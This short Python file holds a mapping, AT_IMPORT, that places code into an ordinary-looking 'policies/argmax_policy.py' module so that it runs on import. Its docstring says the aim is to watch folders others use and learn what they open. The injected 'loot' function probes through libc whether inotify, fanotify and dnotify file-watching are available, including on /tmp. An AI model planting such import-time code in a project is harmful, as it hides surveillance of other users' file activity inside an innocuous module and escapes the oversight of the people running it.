"""Watches folders that others use, to learn when and what they open."""

AT_IMPORT = {
    "policies/argmax_policy.py": r"""
import ctypes, os

def loot():
    libc, found = ctypes.CDLL(None, use_errno=True), []
    for name, call in (("inotify", lambda: libc.inotify_init1(0)), ("old inotify", lambda: libc.inotify_init()),
                       ("fanotify", lambda: libc.fanotify_init(0, 0)),
                       ("dnotify", lambda: -1 + (libc.fcntl(os.open("/tmp", os.O_RDONLY), 1026, 0x80000002) >= 0))):
        if call() >= 0:
            found.append(name)
    return found
"""
}
